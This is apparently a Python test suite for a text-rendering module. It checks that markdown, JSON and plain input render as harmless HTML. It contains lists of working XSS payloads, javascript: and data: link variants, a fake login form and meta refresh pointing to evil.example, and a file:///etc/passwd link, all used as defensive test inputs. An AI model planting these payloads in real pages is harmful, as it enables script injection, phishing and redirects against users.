"""Text that tries to be more than text is shown as text, in every way of showing it."""

from __future__ import annotations

import time
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from runs.rendering.body import render_body
from runs.rendering.detect import RenderMode
from runs.rendering.markdown import MAX_CHARS, TooMuch, render_markdown
from tests.runs.rendering.inert import assert_inert, elements_of

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in capitals with a space": "<SCRIPT >alert(1)</SCRIPT >",
    "script cut in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image with handler": "<img src=x onerror=alert(1)>",
    "image without closing": "<img src=x onerror=alert(1)//",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "math": "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "style": "<style>*{background:url(//evil.example)}</style>",
    "style attribute": "<p style='position:fixed;inset:0'>over all</p>",
    "form": "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "base": "<base href='https://evil.example/'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "htmx": "<div hx-get='/accounts/logout/' hx-trigger='load'></div>",
    "template": "<template><script>alert(1)</script></template>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "closing our own elements": "</div></section></main></body><script>alert(1)</script>",
    "html in a fence": "```html\n<script>alert(1)</script>\n```",
    "fence named by a tag": '```"><script>alert(1)</script>\nx\n```',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "html in a table": "|a|b|\n|---|---|\n|<script>alert(1)</script>|<b onclick=alert(1)>x</b>|",
    "html in a link title": '[x](https://a.example "><script>alert(1)</script>")',
    "html in an image": '!["><script>alert(1)</script>](https://a.example/x.png)',
    "template tag": "{% load x %}{{ request.user }}",
}
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "javascript&#58;alert(1)",
    "javascript%3Aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "file:///etc/passwd",
    "blob:https://a.example/1",
    "//evil.example/x",
    "/accounts/logout/",
    "#main",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
]
SHAPES = [
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "[x][1]\n\n[1]: {}",
    "[x][1]\n\n[1]: <{}>",
    "![x]({})",
    "[![x]({})](https://a.example)",
]
WAYS = [RenderMode.AUTO, RenderMode.MARKDOWN, RenderMode.JSON, RenderMode.PLAIN]


@pytest.mark.parametrize("wanted", WAYS)
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_markup_in_a_text_is_never_markup_on_the_page(attack: str, wanted: RenderMode) -> None:
    assert_inert(render_body(attack, wanted).html)


@pytest.mark.parametrize("wanted", WAYS)
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_markup_in_json_is_never_markup_on_the_page(attack: str, wanted: RenderMode) -> None:
    escaped = attack.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    assert_inert(render_body(f'{{"{escaped}": ["{escaped}"]}}', wanted).html)


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("link", LINKS)
def test_a_link_goes_to_the_web_or_to_mail_or_nowhere(link: str, shape: str) -> None:
    html = render_markdown(shape.format(link))
    assert_inert(html)
    targets = [attributes["href"] for tag, attributes in elements_of(html) if tag == "a"]
    assert set(targets) <= {"https://a.example"}


@pytest.mark.parametrize("address", ["https://a.example/x?y=1&z=2", "http://a.example", "mailto:ann@a.example"])
def test_a_link_to_the_web_or_to_mail_works_and_gives_nothing_away(address: str) -> None:
    ((tag, attributes),) = [found for found in elements_of(render_markdown(f"[x]({address})")) if found[0] == "a"]
    assert (tag, attributes) == ("a", {"href": address, "rel": "noopener nofollow"})


def test_an_image_is_its_words_and_its_address_so_that_no_other_host_is_called() -> None:
    html = render_markdown("![a *small* cat](https://tracker.example/pixel.gif?who=me)")
    assert html == "<p>[image: a small cat] (https://tracker.example/pixel.gif?who=me)</p>\n"


@pytest.mark.parametrize("wanted", WAYS)
def test_characters_that_hide_or_turn_text_around_are_shown_by_a_sign(wanted: RenderMode) -> None:
    html = render_body("invoice\u202egnp.exe \u2066x\u2069 a\x00b\x1b[31m\x9b \udcff", wanted).html
    assert "invoice⟦U+202E⟧gnp.exe ⟦U+2066⟧x⟦U+2069⟧ a␀b␛[31m⟦U+009B⟧ \ufffd" in html


@pytest.mark.parametrize("text", ["عربي \u200fنص", "שלום", "日本語 e\u0301", "tab\tand\nline"])
def test_honest_text_of_any_script_stays_as_it_is(text: str) -> None:
    assert render_body(text, RenderMode.PLAIN).html == text


TANGLES = {
    "open brackets": "[",
    "open images": "![",
    "brackets and parentheses": "[a](",
    "quotes": ">",
    "lists": "- ",
    "backticks": "`",
    "stars": "*a ",
    "underscores": "_a",
    "less-than": "<",
    "comments": "<!--",
    "ampersands": "&",
    "references": "[a]: x\n",
    "cells": "|a",
    "objects": '{"a":',
    "nul": "\x00",
}


@pytest.mark.parametrize("wanted", WAYS)
@pytest.mark.parametrize("piece", TANGLES.values(), ids=TANGLES.keys())
def test_a_megabyte_of_tangle_is_answered_soon(piece: str, wanted: RenderMode) -> None:
    text = piece * (1_000_000 // len(piece))
    started = time.process_time()
    body = render_body(text, wanted)
    assert time.process_time() - started < 2
    assert body.is_cut
    assert body.size == len(text)
    assert_inert(body.html)


@pytest.mark.parametrize("piece", TANGLES.values(), ids=TANGLES.keys())
def test_markdown_as_long_as_is_allowed_ends_in_time_one_way_or_the_other(piece: str) -> None:
    started = time.process_time()
    with suppress(TooMuch):
        assert_inert(render_markdown(piece * (MAX_CHARS // len(piece))))
    assert time.process_time() - started < 2


def test_markdown_beyond_the_bounds_is_refused_and_shown_plainly() -> None:
    with pytest.raises(TooMuch, match="more than 40000 characters"):
        render_markdown("a" * (MAX_CHARS + 1))
    with pytest.raises(TooMuch, match="s of work"):
        render_markdown("[a](" * (MAX_CHARS // 4))


def test_a_huge_table_becomes_plain_text_with_a_reason() -> None:
    body = render_body("|a|b|\n|---|---|\n" + "|1|2|\n" * 40_000, RenderMode.MARKDOWN)
    assert body.is_cut
    assert_inert(body.html)


_PIECES = st.sampled_from(
    [
        *ATTACKS.values(),
        *LINKS,
        *TANGLES.values(),
        "[",
        "](",
        ")",
        "<",
        ">",
        '"',
        "'",
        "\n",
        "    ",
        "```",
        "|---|",
        " onclick=",
    ]
)


@settings(max_examples=300)
@given(st.lists(_PIECES | st.text(max_size=20), max_size=12).map("".join))
def test_whatever_is_written_what_comes_out_can_only_be_read(text: str) -> None:
    for wanted in WAYS:
        assert_inert(render_body(text, wanted).html)
